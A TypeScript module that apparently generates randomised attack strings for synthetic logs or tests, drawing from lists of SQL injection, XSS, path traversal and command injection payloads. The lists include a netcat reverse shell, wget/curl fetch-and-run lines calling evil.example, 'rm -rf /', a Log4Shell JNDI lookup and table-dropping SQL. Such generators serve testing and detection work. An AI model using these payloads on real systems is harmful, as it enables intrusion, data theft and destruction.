import type { Xoshiro128 } from '../../stats/xoshiro128.ts';
import { fillIn, pick } from './pick.ts';

export type AttackType = 'sqli' | 'xss' | 'path_traversal' | 'command_injection';

/** `{}` stands for a small number, so that attacks differ from each other. */
const payloads: Record<AttackType, readonly string[]> = {
  sqli: [
    "' OR '1'='1",
    "' OR '{}'='{}",
    "' or 1=1 -- {}",
    "admin' -- {}",
    "{}' UNION SELECT username, password FROM users --",
    '{} union all select null, null, version()',
    '{} AND 1=1',
    "{}'; DROP TABLE orders; --",
    "1' AND SLEEP({}) #",
    '{} OR pg_sleep(5)',
    "' AND extractvalue({}, concat(0x7e, version())) --",
    "{}; exec xp_cmdshell('dir')",
    '(select load_file(0x2f6574632f706173737764) limit {})',
    "' HAVING {}={} --",
    '{} order by 99 --',
    "x' AND email IS NULL; -- {}",
  ],
  xss: [
    '<script>alert({})</script>',
    '"><script src=//evil.example/{}.js></script>',
    '<img src=x onerror=alert({})>',
    '<svg/onload=alert({})>',
    '<body onload=fetch("//evil.example/{}")>',
    'javascript:alert({})',
    '<a href="javascript:document.cookie={}">win</a>',
    '<iframe srcdoc="<script>top.x={}</script>">',
    "'-alert({})-'",
    '<details open ontoggle=alert({})>',
  ],
  path_traversal: [
    '../../../../etc/passwd?{}',
    '..\\..\\..\\windows\\win.ini#{}',
    '/var/www/../../etc/shadow-{}',
    '....//....//etc/hosts{}',
    'file:///etc/passwd?{}',
    '/proc/self/environ?{}',
    '../../../app/config/database.yml~{}',
    '..;/manager/html?{}',
  ],
  command_injection: [
    '; cat /etc/passwd #{}',
    '127.0.0.1 && id; echo {}',
    '| nc -e /bin/sh 203.0.113.{} 4444',
    '`curl evil.example/{}`',
    '$(wget -qO- evil.example/{}|sh)',
    'report.pdf; rm -rf / #{}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is written so.
    '${jndi:ldap://evil.example/{}}',
    '() { :;}; /bin/bash -c "sleep {}"',
  ],
};

/** As in most logs: more SQL injection than anything else. */
const types: readonly AttackType[] = [
  'sqli',
  'sqli',
  'sqli',
  'sqli',
  'xss',
  'xss',
  'xss',
  'path_traversal',
  'path_traversal',
  'command_injection',
];

export function drawAttack(rng: Xoshiro128): { type: AttackType; payload: string } {
  const type = pick(types, rng);
  return { type, payload: fillIn(pick(payloads[type], rng), () => String(1 + rng.below(250))) };
}
